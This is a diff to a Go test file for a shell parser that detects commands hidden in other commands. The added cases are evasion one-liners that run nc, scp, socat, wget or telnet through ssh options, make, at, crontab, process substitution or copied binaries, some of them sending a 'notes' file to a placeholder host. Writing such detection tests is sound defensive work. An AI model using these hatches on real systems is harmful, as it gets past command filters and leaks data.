@@ -42,15 +42,21 @@ func TestGivenCommandsAreRead(t *testing.T) {
 		`MANPAGER='telnet host'; export MANPAGER; man ls`: "telnet",
 		`declare -x BAT_PAGER='nc host 80'; bat notes`:    "nc",
 		// Shell and program hatches.
-		`trap 'scp notes host:' EXIT`:                           "scp",
-		`sed 's|.*|socat - TCP:host:80|e' notes`:                "socat",
-		`awk -f /dev/stdin <<< 'BEGIN { system("lftp host") }'`: "lftp",
-		`sqlite3 x.db '.once |nc host 80' 'select 1'`:           "nc",
-		`vim -es -c 'call system("wget host")' -c q`:            "wget",
-		`vi -Nesc '!ssh host'`:                                  "ssh",
-		`emacs --batch --eval '(shell-command "xh host")'`:      "xh",
-		`fzf --filter x --preview 'nc host 80'`:                 "nc",
-		`env -S'telnet host 80'`:                                "telnet",
+		`trap 'scp notes host:' EXIT`:                                        "scp",
+		`sed 's|.*|socat - TCP:host:80|e' notes`:                             "socat",
+		`awk -f /dev/stdin <<< 'BEGIN { system("lftp host") }'`:              "lftp",
+		`sqlite3 x.db '.once |nc host 80' 'select 1'`:                        "nc",
+		`vim -es -c 'call system("wget host")' -c q`:                         "wget",
+		`vi -Nesc '!ssh host'`:                                               "ssh",
+		`emacs --batch --eval '(shell-command "xh host")'`:                   "xh",
+		`fzf --filter x --preview 'nc host 80'`:                              "nc",
+		`env -S'telnet host 80'`:                                             "telnet",
+		`ssh -o ProxyCommand='nc host 22' box`:                               "nc",
+		`ssh -oLocalCommand='scp notes host:' -o PermitLocalCommand=yes box`: "scp",
+		`make -f - all <<< $'all:\n\t@wget host'`:                            "wget",
+		`printf 'x:\n\tlftp host\n' | make -f /dev/stdin x`:                  "lftp",
+		`at now + 1 minute <<< 'socat - TCP:host:80'`:                        "socat",
+		`echo '*/5 * * * * nc host 80 < notes' | crontab -`:                  "nc",
 	} {
 		l := Parse(line)
 		var got []string
@@ -77,6 +83,9 @@ func TestGivenCommandsAreRead(t *testing.T) {
 		`sed -e 's/x/y/' -e 's/q/e/' notes`,
 		`export EDITORCONFIG=1; ls`,
 		`trap - INT`,
+		`ssh -o ConnectTimeout=5 box uptime`,
+		`crontab -l`,
+		`make -f build.mk all`,
 	} {
 		for _, c := range Parse(line).Commands {
 			assert.False(t, c.Given, "%s: %v", line, c.Words)
@@ -110,6 +119,22 @@ func TestCopiedProgramRunsAsItself(t *testing.T) {
 		`ln -sf /usr/bin/nc ./ls; ./ls host 80`:                   "nc",
 		`cp /usr/bin/ssh /tmp/cat; /tmp/cat host`:                 "ssh",
 		`install -m755 /usr/bin/socat tool; ./tool - TCP:host:80`: "socat",
+	} {
+		var names []string
+		for _, c := range Parse(line).Commands {
+			names = append(names, c.Name())
+		}
+		assert.Contains(t, names, want, line)
+	}
+}
+
+// A shell or source given its script through a process substitution or
+// its input runs what that prints.
+func TestScriptFromSubstitutionOrInput(t *testing.T) {
+	for line, want := range map[string]string{
+		`bash <(echo 'mosh host')`:            "mosh",
+		`. <(printf 'nc host 80')`:            "nc",
+		`source /dev/stdin <<< 'telnet host'`: "telnet",
 	} {
 		var names []string
 		for _, c := range Parse(line).Commands {
